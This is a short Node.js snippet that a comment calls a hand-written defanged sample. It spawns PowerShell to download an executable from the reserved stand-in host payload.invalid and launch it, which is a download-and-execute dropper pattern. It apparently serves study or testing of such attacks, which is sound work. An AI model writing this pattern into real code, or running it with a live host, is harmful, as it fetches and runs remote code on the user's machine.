// Hand-written sample, defanged: its hosts are reserved names that resolve nowhere. Never run it.
const { spawn } = require("child_process");
spawn("powershell", ["-Command", "iwr https://payload.invalid/a.exe -OutFile a.exe; Start-Process a.exe"]);
